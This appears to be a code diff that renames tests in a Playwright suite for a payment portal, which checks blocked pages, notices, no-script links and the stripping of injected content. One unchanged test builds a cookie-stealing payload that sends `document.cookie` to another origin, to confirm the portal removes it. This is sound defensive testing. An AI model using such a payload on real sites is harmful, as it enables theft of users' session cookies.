@@ -130,7 +130,7 @@ const pressAtOnce = (page: Page, label: string) =>
     label,
   )
 
-test('reports a page that does not open and stays', async ({ page, problems }) => {
+test('reports a blocked page and stays', async ({ page, problems }) => {
   problems.expect(/form-action/)
   const { show, left, elsewhere } = await openPortal(page, { hasCookie: false })
   // The name would shadow the cookies that the portal goes on reading.
@@ -202,7 +202,7 @@ test('shows two forms with a legible notice', async ({ page, problems }) => {
   expect(await onlyRequest(elsewhere)).toMatchObject({ method: 'POST', url: `${pay}/card` })
 })
 
-test('shows a text until Back returns to the portal', async ({ page, problems }) => {
+test('shows a text until Back to the portal', async ({ page, problems }) => {
   problems.expect(/401 \(Unauthorized\).*authenticate\/session/)
   const { show, left, elsewhere } = await openPortal(page, { answersSession: true })
   const text = 'We have sent a request to your bank. Approve it there.'
@@ -218,7 +218,7 @@ test('shows a text until Back returns to the portal', async ({ page, problems })
   expect(elsewhere).toEqual([])
 })
 
-test('shows the links for browsers without scripts', async ({ page }) => {
+test('shows links for browsers without scripts', async ({ page }) => {
   const { show } = await openPortal(page)
   const content = `<p>Press to go on.</p><a href="${pay}/go" target="_top">Go on</a>`
   await show(pageOf(`<p>Approved.</p><noscript>${content}</noscript>`))
@@ -228,7 +228,7 @@ test('shows the links for browsers without scripts', async ({ page }) => {
   await expect(page.getByRole('heading', { name: 'Elsewhere' })).toBeVisible()
 })
 
-test('removes what a page would run, fetch or frame', async ({ page }) => {
+test('removes what a page runs, fetches or frames', async ({ page }) => {
   const { show, elsewhere } = await openPortal(page)
   const steal = (how: string) => `${how}='${other}/?c='+document.cookie`
   const outcome = await show(
@@ -257,7 +257,7 @@ test('removes what a page would run, fetch or frame', async ({ page }) => {
   await page.getByText('Text').hover()
   await page.locator('#script').click()
   await page.locator('#data').click()
-  // The portal's own way back is no part of the page.
+  // The portal adds its button.
   await page.getByRole('complementary').evaluate(wayBack => wayBack.remove())
   expect(
     await page.evaluate(() => ({
